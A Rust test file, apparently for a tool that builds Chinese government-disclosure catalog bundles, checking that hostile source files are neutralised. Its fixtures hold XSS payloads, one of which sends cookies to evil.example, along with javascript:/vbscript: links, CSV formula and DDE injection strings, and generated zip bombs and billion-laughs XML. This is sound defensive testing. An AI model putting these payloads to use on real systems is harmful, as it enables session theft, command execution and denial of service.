//! Hostile sources: what a careless or malicious catalog, register, entries or links file can hold, and
//! what the build step does with it. Each test names the attack and pins the exact outcome: the
//! diagnostic (severity, file, row, column, message) or the exact inert text in the bundle.
//!
//! Fixtures: `fixtures/adversarial/base/` is a small valid source folder (one county, two townships, a
//! 社会救助 catalog); `fixtures/adversarial/cases/<case>/` holds the files a case replaces or adds.
//! Large and binary inputs (1 MB cells, 100,000 rows, zip bombs, nested XML, encodings) are built here.

use gongkai_bundle::build::{build_source, BuildOutcome};
use gongkai_bundle::diagnostic::{Diagnostic, Severity};
use gongkai_bundle::read::{read_catalog_file, ReadOutcome};
use gongkai_catalog::{Catalog, PlaceEntries};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};
use tempfile::TempDir;

const CATALOG: &str = "catalogs/430121/长沙县社会救助领域基层政务公开事项目录.csv";
const CATALOG_HEADER: &str = "序号,一级事项,二级事项,公开内容（要素）,公开依据,公开时限,公开主体,公开渠道和载体,全社会,特定群体,主动,依申请,县级,乡级,事项类型,公开内容标题";

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/adversarial")
}

/// A fresh scratch folder for one test, removed when the returned guard is dropped.
fn scratch(name: &str) -> TempDir {
    tempfile::Builder::new()
        .prefix(&format!("gongkai-adversarial-{name}-"))
        .tempdir()
        .unwrap()
}

fn copy_tree(from: &Path, to: &Path) {
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            std::fs::create_dir_all(&target).unwrap();
            copy_tree(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

/// The base source folder with the case's files laid over it.
fn source_for(case: &str) -> TempDir {
    let dir = scratch(case);
    copy_tree(&fixtures().join("base"), dir.path());
    let overlay = fixtures().join("cases").join(case);
    if overlay.is_dir() {
        copy_tree(&overlay, dir.path());
    }
    dir
}

fn build_case(case: &str) -> (TempDir, BuildOutcome) {
    let dir = source_for(case);
    let out = build_source(dir.path());
    (dir, out)
}

/// One expected diagnostic: severity, file (relative to the source folder), row, column and a part of
/// the message that says what is wrong.
struct Expect<'a> {
    severity: Severity,
    file: &'a str,
    row: Option<u32>,
    column: Option<&'a str>,
    says: &'a str,
}

fn error<'a>(
    file: &'a str,
    row: Option<u32>,
    column: Option<&'a str>,
    says: &'a str,
) -> Expect<'a> {
    Expect {
        severity: Severity::Error,
        file,
        row,
        column,
        says,
    }
}

fn warning<'a>(
    file: &'a str,
    row: Option<u32>,
    column: Option<&'a str>,
    says: &'a str,
) -> Expect<'a> {
    Expect {
        severity: Severity::Warning,
        file,
        row,
        column,
        says,
    }
}

fn matches(d: &Diagnostic, root: &Path, e: &Expect) -> bool {
    d.severity == e.severity
        && d.file == root.join(e.file)
        && d.row == e.row
        && d.column.as_deref() == e.column
        && d.message.contains(e.says)
}

/// Asserts that the diagnostics are exactly the expected ones, in any order.
fn assert_diagnostics(root: &Path, diags: &[Diagnostic], expected: &[Expect]) {
    let shown = || diags.iter().map(|d| format!("  {d}\n")).collect::<String>();
    for e in expected {
        assert!(
            diags.iter().any(|d| matches(d, root, e)),
            "missing {:?} {} row {:?} {:?} «{}»; got:\n{}",
            e.severity,
            e.file,
            e.row,
            e.column,
            e.says,
            shown()
        );
    }
    for d in diags {
        assert!(
            expected.iter().any(|e| matches(d, root, e)),
            "unexpected diagnostic:\n  {d}\nall:\n{}",
            shown()
        );
    }
}

/// The decoded files of a built bundle, checked against the manifest's hashes as the app does.
fn bundle_files<T: serde::de::DeserializeOwned>(out: &BuildOutcome, dir: &str) -> Vec<T> {
    let bundle = out.bundle.as_ref().expect("the build succeeded");
    bundle
        .writer
        .files()
        .iter()
        .filter(|(k, _)| k.starts_with(&format!("{dir}/")))
        // Not the brief catalogs: each is its whole catalog's rows less some fields (Catalog::brief).
        .filter(|(k, _)| !k.contains(".brief."))
        .map(|(k, v)| bundle.decode_file::<T>(k, v).unwrap())
        .collect()
}

/// Reads `bytes` as a file named `file_name` in a scratch folder of its own. The folder is removed on
/// return; the path is kept to compare with the diagnostics.
fn read_bytes(name: &str, file_name: &str, bytes: &[u8]) -> (PathBuf, ReadOutcome) {
    let dir = scratch(name);
    let path = dir.path().join(file_name);
    std::fs::write(&path, bytes).unwrap();
    let out = read_catalog_file(&path);
    (path, out)
}

fn only_table(out: &ReadOutcome) -> &gongkai_bundle::source::SourceTable {
    assert_eq!(out.tables.len(), 1, "{:#?}", out.diagnostics);
    &out.tables[0]
}

// ---------------------------------------------------------------------------------------------------
// The base itself

#[test]
fn the_base_source_builds_cleanly() {
    let (_, out) = build_case("base");
    let shown: Vec<String> = out.diagnostics.iter().map(ToString::to_string).collect();
    assert!(!out.has_errors(), "{shown:#?}");
    assert!(out.bundle.is_some());
}

// ---------------------------------------------------------------------------------------------------
// Script and HTML: kept as inert text (the app renders text nodes only)

#[test]
fn script_and_html_in_every_text_field_stay_inert_text_in_the_bundle() {
    let (_tmp, out) = build_case("script_in_every_field");
    assert!(!out.has_errors(), "{:#?}", out.diagnostics);
    let catalogs: Vec<Catalog> = bundle_files(&out, "catalog");
    let item = catalogs
        .iter()
        .flat_map(|c| &c.items)
        .next()
        .expect("one item");
    assert_eq!(
        item.path,
        [
            "<script>alert('一级')</script>",
            "<img src=x onerror=alert(2)>"
        ]
    );
    assert_eq!(
        item.content,
        [
            "<svg onload=alert(3)>",
            "<a href=\"javascript:alert(4)\">点我</a>"
        ]
    );
    assert_eq!(
        item.basis
            .iter()
            .map(|b| b.text.as_str())
            .collect::<Vec<_>>(),
        ["<iframe src=\"javascript:alert(5)\"></iframe>"]
    );
    assert_eq!(item.body, "<b onmouseover=alert(6)>县级政府民政部门</b>");
    let entries: Vec<PlaceEntries> = bundle_files(&out, "entries");
    let entry = &entries[0].entries[0];
    assert_eq!(
        entry.title,
        "<script>document.location='https://evil.example/?'+document.cookie</script>"
    );
    // A link that is a real https URL stays one, query and all; the app puts it in href, never in HTML.
    assert_eq!(
        entry.url.as_deref(),
        Some("https://www.csx.gov.cn/example/x.html?q=<script>")
    );
    // The JSON carries the text as a string value: nothing in it can end the string or the document.
    let raw = &out.bundle.as_ref().unwrap().writer.files();
    assert!(!raw.is_empty() && raw.values().all(|v| std::str::from_utf8(v).is_ok()));
}

// ---------------------------------------------------------------------------------------------------
// Links: refused with a diagnostic unless safe_href accepts them

#[test]
fn javascript_data_and_vbscript_links_are_refused_with_the_row_and_column() {
    let (tmp, out) = build_case("unsafe_links");
    let root = tmp.path();
    let e = "entries/430121.csv";
    let l = "links/links.csv";
    assert!(
        out.bundle.is_none(),
        "a build with unsafe links writes nothing"
    );
    assert_diagnostics(
        root,
        &out.diagnostics,
        &[
            error(
                e,
                Some(2),
                Some("链接"),
                "链接「javascript:alert(document.cookie)」不安全或无效",
            ),
            error(e, Some(3), Some("链接"), "链接「data:text/html;base64,"),
            error(
                e,
                Some(4),
                Some("链接"),
                "链接「vbscript:msgbox(1)」不安全或无效",
            ),
            error(
                e,
                Some(5),
                Some("链接"),
                "链接「JaVaScRiPt:alert(1)」不安全或无效",
            ),
            error(
                e,
                Some(6),
                Some("链接"),
                "链接「java\tscript:alert(1)」不安全或无效",
            ),
            error(
                e,
                Some(7),
                Some("链接"),
                "链接「//evil.example/x.html」不安全或无效",
            ),
            // The bidi override is stripped from the cell (with a warning), leaving a plain https link.
            warning(e, Some(8), None, "不可见"),
            error(l, Some(2), Some("我要看"), "javascript:alert(1)"),
            error(
                l,
                Some(2),
                Some("我要办"),
                "data:text/html,<script>alert(1)</script>",
            ),
            error(l, Some(3), Some("我要看"), "vbscript:msgbox(1)"),
        ],
    );
}

// ---------------------------------------------------------------------------------------------------
// Invisible characters: stripped, with a warning

#[test]
fn bidi_and_zero_width_characters_in_names_are_stripped_with_a_warning() {
    let (tmp, out) = build_case("invisible_names");
    let root = tmp.path();
    assert!(!out.has_errors(), "{:#?}", out.diagnostics);
    let bundle = out.bundle.as_ref().unwrap();
    let names: Vec<&str> = bundle
        .places
        .iter()
        .map(|p| p.name.as_str())
        .collect();
    assert_eq!(names, ["长沙市", "长沙县", "道街沙星", "泉塘街道"]);
    let catalogs: Vec<Catalog> = bundle_files(&out, "catalog");
    let paths: Vec<Vec<String>> = catalogs
        .iter()
        .flat_map(|c| &c.items)
        .map(|i| i.path.clone())
        .collect();
    assert_eq!(
        paths,
        [
            vec!["最低生活保障".to_string(), "政策".into()],
            vec!["最低生活保障".into(), "南指事办".into()]
        ]
    );
    let entries: Vec<PlaceEntries> = bundle_files(&out, "entries");
    assert_eq!(
        entries[0].entries[0].title,
        "长沙县最低生活保障政策文件汇编"
    );
    assert_diagnostics(
        root,
        &out.diagnostics,
        &[
            warning("places.csv", Some(3), None, "不可见"),
            warning(CATALOG, Some(2), Some("一级事项"), "不可见"),
            warning(CATALOG, Some(2), Some("二级事项"), "不可见"),
            warning(CATALOG, Some(3), Some("二级事项"), "不可见"),
            warning("entries/430121.csv", Some(2), None, "不可见"),
        ],
    );
}

// ---------------------------------------------------------------------------------------------------
// Formulas: inert text, with a warning (the app's CSV export must prefix them with ')

#[test]
fn formulas_and_dde_payloads_are_kept_as_inert_text_with_a_warning() {
    let (tmp, out) = build_case("formulas");
    let root = tmp.path();
    assert!(!out.has_errors(), "{:#?}", out.diagnostics);
    let catalogs: Vec<Catalog> = bundle_files(&out, "catalog");
    let items: Vec<_> = catalogs.iter().flat_map(|c| &c.items).collect();
    assert_eq!(
        items[0].content,
        ["=HYPERLINK(\"https://evil.example/steal?d=\"&A1,\"点击查看\")"]
    );
    assert_eq!(items[0].body, "=cmd|' /C calc'!A0");
    assert_eq!(items[1].content, ["@SUM(1+1)*cmd|' /C calc'!A0"]);
    let formula = "像是公式";
    assert_diagnostics(
        root,
        &out.diagnostics,
        &[
            warning(CATALOG, Some(2), Some("公开内容（要素）"), formula),
            warning(CATALOG, Some(2), Some("公开主体"), formula),
            warning(CATALOG, Some(3), Some("公开内容（要素）"), formula),
            warning(CATALOG, Some(3), Some("公开依据"), formula),
        ],
    );
    // The app's CSV export defuses such a cell with a leading apostrophe (see docs/security.md).
    assert_eq!(gongkai_catalog::export::quote(&items[0].body), "\"'=cmd|' /C calc'!A0\"");
}

// ---------------------------------------------------------------------------------------------------
// Duplicates and unknown places

#[test]
fn a_duplicated_catalog_item_and_a_duplicated_entry_are_reported() {
    let (tmp, out) = build_case("duplicate_items");
    let root = tmp.path();
    assert_diagnostics(
        root,
        &out.diagnostics,
        &[
            error(CATALOG, Some(5), Some("二级事项"), "重复"),
            warning(
                "entries/430121.csv",
                Some(3),
                None,
                "重复的发布信息「长沙县最低生活保障政策文件汇编」（与 ",
            ),
        ],
    );
}

#[test]
fn a_township_code_not_in_the_register_is_an_error_wherever_it_appears() {
    let (tmp, out) = build_case("unknown_township");
    let root = tmp.path();
    assert!(out.bundle.is_none());
    assert_diagnostics(
        root,
        &out.diagnostics,
        &[
            error(
                "catalogs/430121099",
                None,
                None,
                "目录文件夹的地区代码 430121099 不在区划名录中",
            ),
            error(
                "entries/430121.csv",
                Some(2),
                Some("地区代码"),
                "地区代码 430121099 不在区划名录中",
            ),
        ],
    );
}

// ---------------------------------------------------------------------------------------------------
// Size: bounded, a clear error or a fast success, never a hang

fn catalog_csv(rows: usize, content: &str) -> Vec<u8> {
    let mut s = String::with_capacity(rows * 120 + content.len());
    s.push_str(CATALOG_HEADER);
    s.push('\n');
    for i in 0..rows {
        s.push_str(&format!(
            "{n},最低生活保障,事项{n},{content},《社会救助暂行办法》,20个工作日内,县民政局,政府网站,√,,√,,√,√\n",
            n = i + 1
        ));
    }
    s.into_bytes()
}

#[test]
fn a_one_megabyte_cell_is_refused_with_its_row_and_column() {
    let big = "很长".repeat(1024 * 1024 / 6 + 1); // just over 1 MB of UTF-8
    let (path, out) = read_bytes("mb_cell", "社会救助.csv", &catalog_csv(1, &big));
    let cell_errors: Vec<&Diagnostic> = out.diagnostics.iter().filter(|d| d.is_error()).collect();
    assert_eq!(cell_errors.len(), 1, "{:#?}", out.diagnostics);
    let d = cell_errors[0];
    assert_eq!(
        (d.file.as_path(), d.row, d.column.as_deref()),
        (path.as_path(), Some(2), Some("公开内容（要素）"))
    );
    assert!(d.message.contains("单元格内容过长"), "{d}");
    // The row is refused, not read with that cell emptied: nothing of it reaches the bundle, and the
    // error above names it (the row equation counts it once, as refused).
    assert_eq!(out.tables.iter().map(|t| t.rows.len()).sum::<usize>(), 0);
}

#[test]
fn a_sheet_of_100000_rows_is_read_quickly_and_one_more_row_is_a_clear_error() {
    // 99,999 catalog rows + the header = 100,000 rows: read in full.
    let started = Instant::now();
    let (_, out) = read_bytes("rows_ok", "社会救助.csv", &catalog_csv(99_999, "名单"));
    let took = started.elapsed();
    assert!(
        !out.diagnostics.iter().any(Diagnostic::is_error),
        "{:#?}",
        &out.diagnostics[..out.diagnostics.len().min(5)]
    );
    assert_eq!(only_table(&out).rows.len(), 99_999);
    eprintln!("100,000-row CSV read in {took:?}");
    assert!(took < Duration::from_secs(60), "{took:?}");

    // 100,001 rows: reading stops at the limit with an error naming it.
    let started = Instant::now();
    let (path, out) = read_bytes("rows_over", "社会救助.csv", &catalog_csv(100_000, "名单"));
    let took = started.elapsed();
    eprintln!("100,001-row CSV refused in {took:?}");
    let errors: Vec<&Diagnostic> = out.diagnostics.iter().filter(|d| d.is_error()).collect();
    assert_eq!(errors.len(), 1, "{:#?}", errors);
    assert_eq!(
        (errors[0].file.as_path(), errors[0].row),
        (path.as_path(), Some(100_001))
    );
    assert!(
        errors[0].message.contains("表格超过 100000 行"),
        "{}",
        errors[0]
    );
    assert!(took < Duration::from_secs(60), "{took:?}");
}

#[test]
fn an_xlsx_sheet_claiming_a_million_rows_stops_at_the_row_limit() {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet().set_name("社会救助").unwrap();
    for (c, h) in CATALOG_HEADER.split(',').enumerate() {
        ws.write_string(0, c as u16, h).unwrap();
    }
    ws.write_string(1, 1, "最低生活保障").unwrap();
    ws.write_string(1, 2, "政策").unwrap();
    ws.write_string(1_048_575, 1, "最后一行").unwrap(); // the last row Excel has
    let bytes = wb.save_to_buffer().unwrap();
    let started = Instant::now();
    let (path, out) = read_bytes("million_rows", "社会救助.xlsx", &bytes);
    let took = started.elapsed();
    eprintln!("sheet with a cell on row 1,048,576 read in {took:?}");
    let errors: Vec<&Diagnostic> = out.diagnostics.iter().filter(|d| d.is_error()).collect();
    assert_eq!(errors.len(), 1, "{:#?}", out.diagnostics);
    assert_eq!(
        (
            errors[0].file.as_path(),
            errors[0].sheet.as_deref(),
            errors[0].row
        ),
        (path.as_path(), Some("社会救助"), Some(100_001))
    );
    assert!(took < Duration::from_secs(30), "{took:?}");
}

// ---------------------------------------------------------------------------------------------------
// XLSX as a weapon: zip bombs, lying sizes, deep XML, entities

const CONTENT_TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#;
const ROOT_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
const WORKBOOK_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;
const WORKBOOK: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="社会救助" sheetId="1" r:id="rId1"/></sheets></workbook>"#;

/// A minimal workbook whose first sheet is `sheet_xml`, deflated or stored as is.
fn workbook_with_sheet(sheet_xml: &[u8], method: zip::CompressionMethod) -> Vec<u8> {
    use zip::write::SimpleFileOptions;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default().compression_method(method);
    let parts: [(&str, &[u8]); 5] = [
        ("[Content_Types].xml", CONTENT_TYPES.as_bytes()),
        ("_rels/.rels", ROOT_RELS.as_bytes()),
        ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.as_bytes()),
        ("xl/workbook.xml", WORKBOOK.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet_xml),
    ];
    for (name, body) in parts {
        zip.start_file(name, opts).unwrap();
        zip.write_all(body).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn sheet_xml(rows: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"#
    )
}

fn inline_row(r: u32, cells: &[&str]) -> String {
    let mut s = format!(r#"<row r="{r}">"#);
    for (c, text) in cells.iter().enumerate() {
        let col = (b'A' + c as u8) as char;
        s.push_str(&format!(
            r#"<c r="{col}{r}" t="inlineStr"><is><t>{text}</t></is></c>"#
        ));
    }
    s.push_str("</row>");
    s
}

fn the_one_error(out: &ReadOutcome, path: &Path) -> Diagnostic {
    let errors: Vec<&Diagnostic> = out.diagnostics.iter().filter(|d| d.is_error()).collect();
    assert_eq!(errors.len(), 1, "{:#?}", out.diagnostics);
    assert_eq!(errors[0].file, path);
    assert!(
        out.tables.iter().all(|t| t.rows.is_empty()),
        "no rows read from a refused file"
    );
    errors[0].clone()
}

#[test]
fn a_zip_bomb_sheet_is_refused_before_it_is_inflated() {
    // 64 MB of the same byte deflates to about 64 KB: a ratio of ~1000:1.
    let mut xml = sheet_xml("").into_bytes();
    xml.splice(
        xml.len() - "</sheetData></worksheet>".len()..,
        std::iter::repeat_n(b' ', 64 << 20).chain(*b"</sheetData></worksheet>"),
    );
    let bytes = workbook_with_sheet(&xml, zip::CompressionMethod::Deflated);
    assert!(
        bytes.len() < 1 << 20,
        "the bomb itself is small: {} bytes",
        bytes.len()
    );
    let started = Instant::now();
    let (path, out) = read_bytes("zip_bomb", "社会救助.xlsx", &bytes);
    let d = the_one_error(&out, &path);
    assert!(
        d.message.contains("压缩比异常") && d.message.contains("zip bomb"),
        "{d}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn a_zip_whose_directory_lies_about_sizes_is_refused() {
    // A small honest workbook, then its central directory edited to claim a 3.5 GB sheet.
    let mut bytes = workbook_with_sheet(
        sheet_xml(&inline_row(1, &["序号"])).as_bytes(),
        zip::CompressionMethod::Deflated,
    );
    let name = b"xl/worksheets/sheet1.xml";
    let cd = (0..bytes.len() - 46)
        .find(|&i| bytes[i..i + 4] == [0x50, 0x4b, 0x01, 0x02] && bytes[i + 46..].starts_with(name))
        .expect("the sheet's central directory record");
    bytes[cd + 24..cd + 28].copy_from_slice(&0xD000_0000u32.to_le_bytes()); // uncompressed size
    let (path, out) = read_bytes("lying_zip", "社会救助.xlsx", &bytes);
    let d = the_one_error(&out, &path);
    assert!(
        d.message.contains("解压后达") || d.message.contains("压缩比异常"),
        "{d}"
    );
}

#[test]
fn deeply_nested_xml_in_a_sheet_is_read_without_recursion_or_error() {
    let depth = 200_000;
    let mut rows = inline_row(1, &CATALOG_HEADER.split(',').collect::<Vec<_>>());
    rows.push_str(&inline_row(2, &["1", "最低生活保障", "政策", "文件"]));
    // Unknown elements nested 200,000 deep inside a cell: a recursive parser would overflow its stack.
    rows.push_str(r#"<row r="3"><c r="B3" t="inlineStr"><is><t>深</t>"#);
    rows.push_str(&"<x>".repeat(depth));
    rows.push_str(&"</x>".repeat(depth));
    rows.push_str("</is></c></row>");
    // Stored, not deflated: so that the ratio check lets it through to the XML parser.
    let bytes = workbook_with_sheet(sheet_xml(&rows).as_bytes(), zip::CompressionMethod::Stored);
    let started = Instant::now();
    let (_, out) = read_bytes("nested_xml", "社会救助.xlsx", &bytes);
    eprintln!("{depth}-deep XML read in {:?}", started.elapsed());
    assert!(started.elapsed() < Duration::from_secs(30));
    // The nesting is skipped over; the row around it is read like any other.
    assert!(out.diagnostics.is_empty(), "{:#?}", out.diagnostics);
    let paths: Vec<_> = only_table(&out)
        .rows
        .iter()
        .map(|r| r.item.path.clone())
        .collect();
    assert_eq!(paths, [["最低生活保障", "政策"]]);
}

#[test]
fn xml_entities_in_a_sheet_are_not_expanded() {
    // "Billion laughs": a DTD defining entities that expand to gigabytes if a parser honours them.
    let mut lol = String::from(r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">"#);
    lol.push_str(r#"<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">"#);
    for i in 2..10 {
        let prev = format!("&lol{};", i - 1);
        lol.push_str(&format!(r#"<!ENTITY lol{i} "{}">"#, prev.repeat(10)));
    }
    lol.push_str("]>");
    let header = inline_row(1, &CATALOG_HEADER.split(',').collect::<Vec<_>>());
    let body = inline_row(2, &["1", "最低生活保障", "&lol9;", "文件"]);
    let xml = format!(
        r#"{lol}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{header}{body}</sheetData></worksheet>"#
    );
    let bytes = workbook_with_sheet(xml.as_bytes(), zip::CompressionMethod::Stored);
    let started = Instant::now();
    let (path, out) = read_bytes("billion_laughs", "社会救助.xlsx", &bytes);
    assert!(started.elapsed() < Duration::from_secs(10));
    // The entity is not expanded: the parser knows only XML's own five, so the sheet is refused.
    let d = the_one_error(&out, &path);
    assert_eq!(d.sheet.as_deref(), Some("社会救助"));
    assert!(d.message.contains("unrecognized entity `&lol9;`"), "{d}");
}

#[test]
fn an_xlsx_formula_is_never_evaluated() {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet().set_name("社会救助").unwrap();
    for (c, h) in CATALOG_HEADER.split(',').enumerate() {
        ws.write_string(0, c as u16, h).unwrap();
    }
    ws.write_string(1, 1, "最低生活保障").unwrap();
    ws.write_string(1, 2, "政策").unwrap();
    ws.write_formula(1, 3, r#"=HYPERLINK("https://evil.example/","点击")"#)
        .unwrap();
    ws.write_formula(1, 6, "=cmd|' /C calc'!A0").unwrap();
    let (_, out) = read_bytes(
        "xlsx_formula",
        "社会救助.xlsx",
        &wb.save_to_buffer().unwrap(),
    );
    let t = only_table(&out);
    let item = &t.rows[0].item;
    // A workbook stores a formula's last computed value beside it; the reader takes that value (here
    // none was stored) and never the formula, so nothing runs and no link appears.
    assert!(
        item.content.iter().all(|c| !c.contains("evil.example")),
        "{:?}",
        item.content
    );
    assert!(!item.body.contains("cmd"), "{:?}", item.body);
}

// ---------------------------------------------------------------------------------------------------
// Encodings

fn sample_catalog() -> String {
    format!("{CATALOG_HEADER}\n1,最低生活保障,办事指南,办理条件、申请材料,《社会救助暂行办法》,20个工作日内,县民政局,政府网站,√,,√,,√,√\n")
}

fn first_item_path(out: &ReadOutcome) -> Vec<String> {
    only_table(out).rows[0].item.path.clone()
}

#[test]
fn gbk_gb18030_utf16_and_bom_files_all_read_the_same() {
    let text = sample_catalog();
    let (gbk, _, _) = encoding_rs::GBK.encode(&text);
    let mut utf16 = vec![0xFF, 0xFE];
    utf16.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let mut bom = b"\xEF\xBB\xBF".to_vec();
    bom.extend(text.as_bytes());
    for (name, bytes) in [
        ("gbk", gbk.into_owned()),
        ("utf16", utf16),
        ("bom", bom),
        ("utf8", text.clone().into_bytes()),
    ] {
        let (_, out) = read_bytes(name, "社会救助.csv", &bytes);
        assert!(out.diagnostics.is_empty(), "{name}: {:#?}", out.diagnostics);
        assert_eq!(
            first_item_path(&out),
            ["最低生活保障", "办事指南"],
            "{name}"
        );
    }
}

#[test]
fn a_file_mixing_utf8_and_gbk_lines_is_flagged_not_silently_garbled() {
    // A clerk pasted GBK rows into a UTF-8 file (or the reverse): no single encoding reads it all.
    let text = sample_catalog();
    let (gbk_row, _, _) = encoding_rs::GBK.encode("2,最低生活保障,审批信息,低保对象名单,《社会救助暂行办法》,20个工作日内,县民政局,政府网站,√,,√,,√,√\n");
    let mut bytes = text.into_bytes();
    bytes.extend_from_slice(&gbk_row);
    let (path, out) = read_bytes("mixed", "社会救助.csv", &bytes);
    // Not valid UTF-8, so it is read as GB18030: the UTF-8 part turns to replacement characters, the
    // clerk is told so, and the garbled header is not taken for a catalog. Nothing garbled gets in.
    assert!(out.tables.is_empty());
    let root = path.parent().unwrap();
    let file = path.file_name().unwrap().to_str().unwrap();
    assert_diagnostics(
        root,
        &out.diagnostics,
        &[
            warning(file, None, None, "文件中有无法识别的字符，已用「�」代替"),
            error(file, None, None, "找不到目录表头"),
        ],
    );
}

#[test]
fn a_big5_file_is_not_mistaken_for_a_catalog() {
    // Traditional-character catalogs (宣城) saved as Big5 decode to nonsense as GB18030: the header is
    // not found, and the error says what a header should hold.
    let traditional = sample_catalog().replace("公开", "公開");
    let (big5, _, _) = encoding_rs::BIG5.encode(&traditional);
    let (path, out) = read_bytes("big5", "社会救助.csv", &big5);
    let d = the_one_error(&out, &path);
    assert!(d.message.contains("找不到目录表头"), "{d}");
}

#[test]
fn binary_garbage_named_csv_or_xlsx_gives_one_clear_error() {
    let garbage: Vec<u8> = (0..4096u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let (path, out) = read_bytes("garbage_xlsx", "社会救助.xlsx", &garbage);
    let d = the_one_error(&out, &path);
    assert!(d.message.contains("无法读取 Excel 文件"), "{d}");
    let (path, out) = read_bytes("garbage_csv", "社会救助.csv", &garbage);
    assert!(
        out.diagnostics
            .iter()
            .any(|d| d.file == path && d.is_error()),
        "{:#?}",
        out.diagnostics
    );
}

// ---------------------------------------------------------------------------------------------------
// Every row accounted for: broken quoting, text past the header, missing columns, unknown values and
// oversize files, in catalogs, places, entries and links

/// How the rows of one source file ended up, from `check`'s report of the build.
fn rows_of(root: &Path, out: &BuildOutcome, file: &str) -> (usize, usize, usize) {
    let f = out.files.iter().find(|f| f.path == root.join(file)).unwrap_or_else(|| panic!("{file} was not read"));
    let r = f.rows.unwrap_or_else(|| panic!("{file} has no row counts"));
    assert_eq!(r.rows, r.read + r.refused, "{file}: {r:?}");
    (r.rows, r.read, r.refused)
}

#[test]
fn broken_quoting_and_text_past_the_header_are_errors_at_their_row_and_later_rows_are_read() {
    let (tmp, out) = build_case("broken_rows");
    let root = tmp.path();
    let (c, p, e, l) = (CATALOG, "places.csv", "entries/430121.csv", "links/links.csv");
    assert!(out.bundle.is_none());
    assert_diagnostics(
        root,
        &out.diagnostics,
        &[
            error(c, Some(5), Some("D"), "引号没有配对"),
            error(c, Some(6), Some("Q"), "最后一列表头之后还有内容「，另附说明」"),
            error(p, Some(5), Some("B"), "引号没有配对"),
            error(p, Some(6), Some("D"), "最后一列表头之后还有内容「多出来的」"),
            error(e, Some(3), Some("F"), "结束引号之后还有文字"),
            error(e, Some(4), Some("F"), "多余的英文引号"),
            error(e, Some(5), Some("J"), "最后一列表头之后还有内容「2026-10-15」"),
            error(l, Some(3), Some("E"), "引号没有配对"),
            error(l, Some(4), Some("H"), "最后一列表头之后还有内容「430121」"),
        ],
    );
    // The rows after each broken one are read: nothing is swallowed.
    assert_eq!(rows_of(root, &out, c), (6, 4, 2));
    assert_eq!(rows_of(root, &out, p), (6, 4, 2));
    assert_eq!(rows_of(root, &out, e), (5, 2, 3));
    assert_eq!(rows_of(root, &out, l), (4, 2, 2));
}

#[test]
fn a_table_without_a_standard_column_is_refused_naming_it_and_the_columns_found() {
    let (tmp, out) = build_case("missing_columns");
    let root = tmp.path();
    let (c, e, l) = (CATALOG, "entries/430121.csv", "links/links.csv");
    // A second catalog has 二级事项 but no 一级事项 (and no 事项名称 alone): the item levels are required.
    let c2 = "catalogs/430121/长沙县户籍管理领域基层政务公开事项目录.csv";
    let found = "表头中找到的列：序号、一级事项、二级事项、公开内容（要素）、公开时限、公开渠道和载体、全社会";
    let found2 = "缺少「一级事项（或 事项名称）」列：请在表头加上这一列（可接受的列名见 docs/source-format.md「目录文件」）。表头中找到的列：序号、二级事项、公开内容（要素）、公开依据";
    // With its only catalog refused, the county has none (a warning about the folder as a whole).
    let (county, located): (Vec<Diagnostic>, Vec<Diagnostic>) = out.diagnostics.iter().cloned().partition(|d| d.file == Path::new("catalogs"));
    assert!(county.len() == 1 && county[0].message.contains("430121 长沙县 没有目录"), "{county:#?}");
    assert_diagnostics(
        root,
        &located,
        &[
            error(c, Some(1), Some("公开依据"), found),
            error(c, Some(1), Some("公开主体"), found),
            error(c, Some(2), None, "第2行至第4行都没有读取"),
            error(c2, Some(1), Some("一级事项"), found2),
            error(c2, Some(2), None, "第2行至第3行都没有读取"),
            error(e, Some(1), Some("二级事项"), "缺少列：二级事项。表头（第1行）中找到的列：地区代码、领域、一级事项、标题、发布日期、链接；第2行没有读取"),
